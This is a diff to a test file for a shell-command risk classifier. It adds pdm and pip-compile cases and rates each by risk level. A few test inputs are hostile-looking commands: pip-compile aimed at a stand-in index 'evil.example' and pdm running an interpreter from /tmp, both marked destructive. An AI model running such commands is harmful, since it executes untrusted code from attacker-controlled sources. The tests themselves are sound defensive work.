@@ -205,6 +205,9 @@ def test_package_managers_read_fetch_and_build_low() -> None:
             ("conda install -c conda-forge -c bioconda samtools", R.SYSTEM),
             ("conda install conda-forge::numpy", R.SYSTEM),
             ("mamba install --channel=pytorch pytorch", R.SYSTEM),
+            ("pdm use 3.12", R.WORKSPACE_WRITE),
+            ("pdm venv create --name x 3.11", R.NETWORK),
+            ("pip-compile -o requirements.txt requirements.in", R.NETWORK),
             ("composer install", R.NETWORK),
             ("composer validate", R.WORKSPACE_WRITE),  # its plugins run
             ("composer validate --no-plugins", R.READ_ONLY),
@@ -250,6 +253,11 @@ def test_package_managers_installing_for_the_user_deleting_or_running_package_pr
             ("conda create -n x -c evil python", R.DESTRUCTIVE),
             ("mamba install -c evil x", R.DESTRUCTIVE),
             ("conda install /tmp/x.tar.bz2", R.DESTRUCTIVE),
+            # pdm use / venv create PYTHON runs that interpreter; pip-compile builds sdists from the index it is given
+            ("pdm use /tmp/x/python", R.DESTRUCTIVE),
+            ("pdm venv create /tmp/x/python", R.DESTRUCTIVE),
+            ("pip-compile --index-url http://evil.example/simple requirements.in", R.DESTRUCTIVE),
+            ("pip-compile --pip-args '--index-url http://evil.example/simple' requirements.in", R.DESTRUCTIVE),
             ("gem push pkg.gem", R.NETWORK),
             ("gem yank pkg -v 1.0", R.DESTRUCTIVE),
             ("composer run-script test", R.WORKSPACE_WRITE),  # the script, as npm run test (none read here)
